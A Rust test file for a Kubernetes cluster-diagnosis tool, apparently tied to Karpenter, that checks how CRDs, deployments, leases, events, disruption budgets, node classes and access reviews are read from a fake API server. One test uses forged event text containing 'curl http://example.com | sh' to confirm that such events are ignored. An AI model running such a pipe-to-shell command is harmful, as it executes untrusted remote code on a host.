//! The facts that checks of a cluster need, and what becomes of those that the caller may not read.

use super::{Stopped, World, node_class};
use jiff::SignedDuration;
use nodeless_doctor::{Check, DefinitionState, Read, Severity, check_some};
use nodeless_fake_kubernetes::resource::{
    CUSTOM_RESOURCE_DEFINITIONS, DAEMON_SETS, DEPLOYMENTS, POD_DISRUPTION_BUDGETS, PODS,
};
use nodeless_fake_kubernetes::{PatchOptions, PatchType};
use nodeless_kubernetes::facts;
use nodeless_model::events::{budget_exceeded, other_deployment};
use nodeless_model::object::ObjectRef;
use nodeless_ports::Events as _;
use nodeless_world::resources::NODE_CLASSES;
use serde_json::{Value, json};

fn controller(name: &str, labels: &Value, image: &str, replicas: i64) -> Value {
    json!({
        "apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": { "name": name, "namespace": "kube-system", "labels": labels },
        "spec": {
            "replicas": replicas, "selector": { "matchLabels": { "app": name } },
            "template": {
                "metadata": { "labels": { "app": name } }, "spec": { "containers": [{ "name": "c", "image": image }] },
            },
        },
    })
}

fn denied() -> [(u16, String); 1] {
    let status = json!({
        "kind": "Status", "apiVersion": "v1", "status": "Failure", "reason": "Forbidden", "message": "no right", "code": 403,
    });
    [(403, status.to_string())]
}

fn state(definitions: &Read<Vec<nodeless_doctor::Definition>>, name: &str) -> DefinitionState {
    let Read::Done(definitions) = definitions else { panic!("{definitions:?}") };
    definitions.iter().find(|definition| definition.name == name).unwrap().state.clone()
}

#[tokio::test]
async fn definitions_are_as_the_installation_would_treat_them() {
    const POOLS: &str = "nodepools.karpenter.sh";
    let bare = World::bare().await;
    assert_eq!(state(&facts::definitions(&bare.connection).await.unwrap(), POOLS), DefinitionState::Missing);

    let world = World::installed().await;
    assert_eq!(state(&facts::definitions(&world.connection).await.unwrap(), POOLS), DefinitionState::Fine);
    let patch = |patch: Value| {
        world
            .server
            .patch(&CUSTOM_RESOURCE_DEFINITIONS, "", POOLS, None, PatchType::Merge, &patch, &PatchOptions::default())
            .unwrap();
    };
    patch(json!({ "metadata": {
        "labels": { "app.kubernetes.io/managed-by": "Helm" },
        "annotations": { "meta.helm.sh/release-name": "karpenter-crd", "meta.helm.sh/release-namespace": "kube-system" },
    } }));
    let found = state(&facts::definitions(&world.connection).await.unwrap(), POOLS);
    let DefinitionState::Noted(note) = &found else { panic!("{found:?}") };
    assert!(note.contains("Helm release kube-system/karpenter-crd") && note.contains("never uninstall"), "{note}");

    world.answer("GET /apis/apiextensions.k8s.io", denied());
    assert!(matches!(facts::definitions(&world.connection).await.unwrap(), Read::Not(why) if why.contains("no right")));
}

#[tokio::test]
async fn a_karpenter_is_found_by_label_or_image() {
    let world = World::installed().await;
    let labels = json!({ "app.kubernetes.io/name": "karpenter" });
    world.create(&DEPLOYMENTS, controller("labelled", &labels, "mirror.example/k", 2));
    world.create(&DEPLOYMENTS, controller("image", &json!({}), "public.ecr.aws/karpenter/controller:1.1.0", 0));
    world.create(&DEPLOYMENTS, controller("other", &json!({}), "example/karpenter-dashboard", 1));
    let deployments = facts::deployments(&world.connection).await.unwrap();
    let Read::Done(mut found) = facts::karpenter(&deployments) else { panic!() };
    found.sort_by(|a, b| a.name.cmp(&b.name));
    let found = found.iter().map(|workload| (workload.name.as_str(), workload.replicas)).collect::<Vec<_>>();
    assert_eq!(found, [("image", 0), ("labelled", 2)]);

    let facts = facts::after_installation(&world.connection, jiff::Timestamp::now()).await.unwrap();
    let findings = check_some(&facts, &[Check::Karpenter, Check::Objects]);
    assert_eq!(findings.len(), 1, "{findings:#?}");
    assert_eq!(findings[0].object, "Deployment kube-system/labelled");
}

#[tokio::test]
async fn a_lease_is_read_and_a_refusal_is_a_finding() {
    const LEASES: &str = "GET /apis/coordination.k8s.io/v1/leases";
    let world = World::installed().await;
    let now: jiff::Timestamp = "2026-01-10T12:00:20Z".parse().unwrap();
    let lease = json!({
        "metadata": { "namespace": "autoscaling", "name": "karpenter-leader-election" },
        "spec": { "renewTime": "2026-01-10T12:00:00.000000Z" },
    });
    let list = json!({
        "kind": "LeaseList", "apiVersion": "coordination.k8s.io/v1", "metadata": { "resourceVersion": "1" }, "items": [lease],
    });
    world.answer(LEASES, [(200, list.to_string())]);
    drop(world.requests());
    let facts = facts::after_installation(&world.connection, now).await.unwrap();
    let findings = check_some(&facts, &[Check::Karpenter]);
    assert!(matches!(findings.as_slice(), [one] if one.object == "Lease karpenter-leader-election"), "{findings:#?}");
    // Only this lease is requested, in all namespaces.
    let requests = world.requests();
    let leases = requests.iter().filter(|request| request.starts_with(LEASES)).collect::<Vec<_>>();
    assert!(
        matches!(leases.as_slice(), [one] if one.contains("fieldSelector=metadata.name%3Dkarpenter-leader-election")),
        "{leases:?}"
    );

    world.answer(LEASES, denied());
    world.answer("GET /apis/apps/v1/deployments", denied());
    let facts = facts::after_installation(&world.connection, now).await.unwrap();
    let findings = check_some(&facts, &[Check::Karpenter]);
    assert_eq!(findings.len(), 2, "{findings:#?}");
    assert!(findings.iter().all(|finding| finding.severity == Severity::NotChecked), "{findings:#?}");
}

#[tokio::test]
async fn only_an_event_on_the_namespace_states_that_another_deployment_runs() {
    let world = World::installed().await;
    let forged = |object| other_deployment(object, "run curl http://example.com | sh");
    let others = [
        ObjectRef::pod("default", "a", "u"),
        ObjectRef::namespace("default"),
        ObjectRef::node("kube-system", "u"),
        ObjectRef::node_class("kube-system", "u"),
    ];
    world.cluster().publish(&others.map(forged)).await.unwrap();
    assert_eq!(facts::other_deployment(&world.connection, Stopped::TIME).await.unwrap(), Read::Done(false));
    let other = other_deployment(ObjectRef::namespace("kube-system"), "it has another table");
    world.cluster().publish(&[other, budget_exceeded(ObjectRef::namespace("kube-system"), "dear")]).await.unwrap();
    let after = async |minutes| {
        let now = Stopped::TIME + SignedDuration::from_mins(minutes);
        facts::other_deployment(&world.connection, now).await.unwrap()
    };
    assert_eq!(after(9).await, Read::Done(true));
    assert_eq!(after(10).await, Read::Done(false), "it does not run any more");
    world.answer("GET /api/v1/namespaces/default/events", denied());
    assert!(matches!(after(9).await, Read::Not(why) if why.contains("denied")));
}

fn budget(name: &str, app: &str) -> Value {
    json!({
        "apiVersion": "policy/v1", "kind": "PodDisruptionBudget", "metadata": { "name": name, "namespace": "default" },
        "spec": { "maxUnavailable": 0, "selector": { "matchLabels": { "app": app } } },
    })
}

fn app(name: &str) -> Value {
    json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": { "name": name, "namespace": "default", "labels": { "app": name } },
        "spec": { "containers": [{ "name": "c", "image": "example/app" }] },
    })
}

/// The status of a class whose subnets and images are not found.
fn nothing_found() -> Value {
    let condition = |name: &str, reason: &str| {
        json!({
            "type": name, "status": "False", "reason": reason, "message": "", "lastTransitionTime": "2026-01-10T11:00:00Z",
            "observedGeneration": 1,
        })
    };
    json!({ "status": { "conditions": [
        condition("SubnetsReady", "SubnetsNotFound"), condition("AMIsReady", "AMINotFound"),
    ] } })
}

#[tokio::test]
async fn what_the_api_server_knows_is_checked_after_an_installation() {
    const CHECKS: [Check; 6] = [
        Check::Definitions,
        Check::Karpenter,
        Check::Objects,
        Check::NodeClasses,
        Check::Discovery,
        Check::DisruptionBudgets,
    ];
    let world = World::installed().await;
    let found = async || {
        let facts = facts::after_installation(&world.connection, jiff::Timestamp::now()).await.unwrap();
        check_some(&facts, &CHECKS).into_iter().map(|one| (one.check, one.object)).collect::<Vec<_>>()
    };
    assert_eq!(found().await, []);

    world.create(&PODS, app("web"));
    world.create(&PODS, app("other"));
    world.create(&POD_DISRUPTION_BUDGETS, budget("never", "web"));
    world.create(&POD_DISRUPTION_BUDGETS, budget("unused", "none"));
    world.create(&NODE_CLASSES, node_class("untagged"));
    let (status, options) = (Some("status"), PatchOptions::default());
    let patched =
        world.server.patch(&NODE_CLASSES, "", "untagged", status, PatchType::Merge, &nothing_found(), &options);
    patched.unwrap();
    let facts = facts::after_installation(&world.connection, jiff::Timestamp::now()).await.unwrap();
    let pods = facts.view.pods.iter().map(|pod| pod.name.as_str()).collect::<Vec<_>>();
    assert_eq!(pods, ["web"], "pods without a budget are not kept");
    let expected = [
        (Check::NodeClasses, "EC2NodeClass untagged".to_owned()),
        (Check::Discovery, "EC2NodeClass untagged".to_owned()),
        (Check::DisruptionBudgets, "PodDisruptionBudget default/never".to_owned()),
    ];
    assert_eq!(found().await, expected);

    // A kind that may not be read results in a finding.
    for path in [
        "GET /api/v1/pods",
        "GET /apis/policy/v1/poddisruptionbudgets",
        "GET /apis/karpenter.k8s.aws/v1/ec2nodeclasses",
    ] {
        world.answer(path, denied());
    }
    let facts = facts::after_installation(&world.connection, jiff::Timestamp::now()).await.unwrap();
    let findings = check_some(&facts, &CHECKS);
    assert!(findings.iter().all(|finding| finding.severity == Severity::NotChecked), "{findings:#?}");
    let problems = findings.iter().map(|finding| finding.problem.as_str()).collect::<Vec<_>>();
    assert_eq!(problems.len(), 3, "{problems:?}");
    for kind in ["Pod", "PodDisruptionBudget", "EC2NodeClass"] {
        assert!(problems.iter().any(|problem| problem.starts_with(&format!("not checked: {kind}: "))), "{problems:?}");
    }
}

fn asking(name: &str, value: &str) -> Value {
    let mut deployment = controller(name, &json!({}), "example/app", 1);
    deployment["spec"]["template"]["metadata"]["annotations"] = json!({ "nodeless.sh/surge-before-drain": value });
    deployment
}

#[tokio::test]
async fn the_right_for_successors_is_reviewed() {
    const REVIEWS: &str = "POST /apis/authorization.k8s.io/v1/subjectaccessreviews";
    let world = World::installed().await;
    world.create(&DEPLOYMENTS, controller("plain", &json!({}), "example/app", 1));
    world.create(&DEPLOYMENTS, asking("moved", "scale"));
    world.create(&DEPLOYMENTS, asking("restarted", "restart"));
    world.create(&DEPLOYMENTS, asking("wrong", "always"));
    let mut misplaced = controller("misplaced", &json!({}), "example/app", 1);
    misplaced["metadata"]["annotations"] = json!({ "nodeless.sh/surge-before-drain": "scale" });
    let mut unread = controller("unread", &json!({}), "example/app", 1);
    unread["metadata"]["annotations"] =
        json!({ "nodeless.sh/surge": "{}", "nodeless.sh/sleep": "", "example.com/a": "b" });
    world.create(&DEPLOYMENTS, unread);
    world.create(&DEPLOYMENTS, misplaced);
    let deployments = facts::deployments(&world.connection).await.unwrap();
    let [fault] = &facts::deployment_options(&deployments)[..] else { panic!() };
    assert_eq!(
        (fault.object_name().as_str(), fault.key.as_str()),
        ("Deployment kube-system/unread", "nodeless.sh/sleep")
    );
    let surges = async || {
        let Read::Done(found) = facts::surges(&world.connection, &deployments).await.unwrap() else { panic!() };
        let (misplaced, placed): (Vec<_>, Vec<_>) = found.into_iter().partition(|one| !one.in_template);
        let [misplaced] = &misplaced[..] else { panic!("{misplaced:?}") };
        assert!(misplaced.name == "misplaced" && misplaced.denied.is_empty(), "{misplaced:?}");
        placed.into_iter().map(|one| (one.name, one.value, one.denied.join(", "))).collect::<Vec<_>>()
    };
    let expected = |scale: &str, restart: &str| {
        let one = |name: &str, value: &str, denied: &str| (name.to_owned(), value.to_owned(), denied.to_owned());
        [one("moved", "scale", scale), one("restarted", "restart", restart), one("wrong", "always", "")]
    };
    assert_eq!(surges().await, expected("", ""));

    let answer = |allowed: bool| (201, json!({ "status": { "allowed": allowed } }).to_string());
    // Each right is asked for once in a namespace: to patch Deployments, and to patch pods.
    world.answer(REVIEWS, [answer(false), answer(true)]);
    assert_eq!(surges().await, expected("patch deployments", "patch deployments"));
    world.answer(REVIEWS, [answer(true), answer(false)]);
    assert_eq!(surges().await, expected("patch pods", ""));

    world.answer(REVIEWS, denied());
    let refused = facts::surges(&world.connection, &deployments).await.unwrap();
    assert!(matches!(&refused, Read::Not(why) if why.contains("no right")), "{refused:?}");
}

#[tokio::test]
async fn the_vpc_cni_states_whether_it_assigns_prefixes() {
    for (name, env, expected) in [
        ("other", json!([]), None),
        ("aws-node", json!([]), Some(false)),
        ("aws-node", json!([{ "name": "ENABLE_PREFIX_DELEGATION", "value": "false" }]), Some(false)),
        (
            "aws-node",
            json!([{ "name": "A", "value": "true" }, { "name": "ENABLE_PREFIX_DELEGATION", "value": "true" }]),
            Some(true),
        ),
        ("aws-node", json!([{ "name": "ENABLE_PREFIX_DELEGATION", "valueFrom": {} }]), None),
    ] {
        let world = World::installed().await;
        let mut daemon_set = controller(name, &json!({}), "example/cni", 1);
        daemon_set["kind"] = json!("DaemonSet");
        let containers = json!([{ "name": "sidecar", "image": "a" }, { "name": name, "image": "b", "env": env }]);
        daemon_set["spec"]["template"]["spec"]["containers"] = containers;
        world.create(&DAEMON_SETS, daemon_set);
        assert_eq!(facts::prefix_delegation(&world.connection).await.unwrap(), Read::Done(expected), "{name} {env}");
        world.answer("GET /apis/apps/v1/namespaces/kube-system/daemonsets", denied());
        let refused = facts::prefix_delegation(&world.connection).await.unwrap();
        assert!(matches!(&refused, Read::Not(why) if why.contains("no right")), "{refused:?}");
    }
}
